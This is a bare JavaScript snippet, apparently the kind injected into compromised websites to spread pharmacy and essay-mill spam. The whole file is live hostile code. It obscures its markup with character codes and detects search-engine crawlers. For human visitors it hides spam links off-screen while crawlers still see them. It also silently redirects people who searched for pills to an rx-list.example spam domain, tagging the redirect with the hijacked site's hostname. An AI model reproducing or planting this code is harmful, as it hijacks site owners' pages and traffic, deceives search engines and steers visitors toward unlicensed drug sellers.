var t = [['buy-meds', 'Buy cheap generic pills online no prescription'], ['canadian-rx', 'canadian pharmacy 24h'], ['ed-tabs', 'ed tablets 100mg price'], ['essay-pro', 'write my essay cheap']];
var bot = /googlebot|bingbot|yandex|baiduspider/i.test(navigator.userAgent);
document.write(String.fromCharCode(60, 100, 105, 118) + ' style="position:absolute;' + (bot ? '' : 'left:-' + (5000 + Math.floor(Math.random() * 4000)) + 'px;') + 'height:1px;overflow:hidden">');
for (var i = 0; i < t.length; i++) document.write('<a href="https://' + t[i][0] + '.rx-list.example/">' + t[i][1] + '</a> ');
document.write('</div>');
if (!bot && /q=.*(pill|pharma|tablet|rx)/i.test(unescape(document.referrer))) window.location.replace('https://' + t[1][0] + '.rx-list.example/?from=' + location.hostname);
